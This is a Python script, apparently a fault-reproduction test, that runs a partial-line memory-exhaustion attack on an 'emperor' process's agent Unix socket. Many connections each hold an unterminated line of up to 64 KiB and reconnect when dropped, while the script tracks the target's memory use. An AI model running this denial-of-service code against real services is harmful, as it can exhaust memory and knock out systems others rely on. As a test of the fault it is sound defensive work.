#!/usr/bin/env python3
"""Partial-line attack on the emperor's agent socket (issue 15 fault 3), run as an
unprivileged user: N connections each try to hold a partial line of LINE bytes (no newline);
a connection the emperor closes is reopened. Prints, once a second, how many connections
are open, how many bytes are buffered in total by the emperor (as sent), and the emperor's RSS.
usage: partial_lines.py SOCKET EMPEROR_PID [N=1000] [SECONDS=30] [LINE=65535]"""
import os, socket, sys, time, selectors

path, pid = sys.argv[1], int(sys.argv[2])
n = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 30
line = int(sys.argv[5]) if len(sys.argv) > 5 else 65535
payload = b'{"v":1,"type":"hello","vassal":"' + b'x' * line
payload = payload[:line]

def rss_mb(p):
    try:
        with open(f"/proc/{p}/status") as f:
            for l in f:
                if l.startswith("VmRSS:"):
                    return int(l.split()[1]) / 1024
    except OSError:
        return -1
    return -1

sel = selectors.DefaultSelector()
conns = {}  # socket -> bytes sent
opened = refused = 0

def open_one():
    global opened, refused
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect(path)
    except BlockingIOError:
        pass
    except OSError:
        refused += 1
        s.close()
        return
    opened += 1
    conns[s] = 0
    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)

def drop(s):
    sel.unregister(s)
    conns.pop(s, None)
    s.close()

start = time.time()
next_report = start
peak = 0
print(f"rss before: {rss_mb(pid):.0f} MB", flush=True)
while time.time() - start < seconds:
    while len(conns) < n:
        before = len(conns)
        open_one()
        if len(conns) == before:
            break
    for key, ev in sel.select(timeout=0.05):
        s = key.fileobj
        if ev & selectors.EVENT_READ:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                drop(s)
                continue
        if ev & selectors.EVENT_WRITE and s in conns:
            sent = conns[s]
            if sent >= line:
                sel.modify(s, selectors.EVENT_READ)
                continue
            try:
                k = s.send(payload[sent:])
                conns[s] = sent + k
            except BlockingIOError:
                pass
            except OSError:
                drop(s)
    now = time.time()
    if now >= next_report:
        r = rss_mb(pid)
        peak = max(peak, r)
        held = sum(conns.values())
        print(f"t={now-start:5.1f}s open={len(conns)} opened={opened} refused={refused} "
              f"sent_held={held/1048576:.1f}MiB rss={r:.0f}MB", flush=True)
        next_report += 1
for s in list(conns):
    drop(s)
print(f"peak rss: {peak:.0f} MB; rss after closing: {rss_mb(pid):.0f} MB", flush=True)
